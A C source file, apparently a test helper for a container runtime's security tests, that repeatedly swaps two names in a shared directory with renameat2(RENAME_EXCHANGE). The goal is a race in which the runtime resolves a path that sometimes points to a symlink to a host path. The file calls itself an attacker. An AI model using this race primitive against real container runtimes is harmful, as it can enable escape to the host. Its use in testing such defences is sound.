/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Attacker: swap two names of a shared directory as fast as possible with
 * renameat2(RENAME_EXCHANGE), so that whatever the runtime resolves there
 * is sometimes one, sometimes the other (a directory and a symlink to a
 * host path, a device node and a symlink...).  Runs until STOPFILE exists
 * in DIR or SECONDS have passed; prints the number of swaps.
 *
 * usage: mnt_swap DIR NAME_A NAME_B STOPFILE SECONDS */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int
exchange (int dirfd, const char *a, const char *b)
{
  return syscall (SYS_renameat2, dirfd, a, dirfd, b, RENAME_EXCHANGE);
}

int
main (int argc, char **argv)
{
  unsigned long swaps = 0, failures = 0;
  time_t deadline;
  int dirfd;

  if (argc != 6)
    {
      fprintf (stderr, "usage: %s DIR NAME_A NAME_B STOPFILE SECONDS\n", argv[0]);
      return 2;
    }
  dirfd = open (argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (dirfd < 0)
    {
      perror (argv[1]);
      return 1;
    }
  deadline = time (NULL) + atoi (argv[5]);
  for (;;)
    {
      if (exchange (dirfd, argv[2], argv[3]) == 0)
        swaps++;
      else
        failures++;
      if ((swaps + failures) % 1024 == 0
          && (faccessat (dirfd, argv[4], F_OK, AT_SYMLINK_NOFOLLOW) == 0 || time (NULL) > deadline))
        break;
    }
  printf ("swaps=%lu failures=%lu\n", swaps, failures);
  return 0;
}
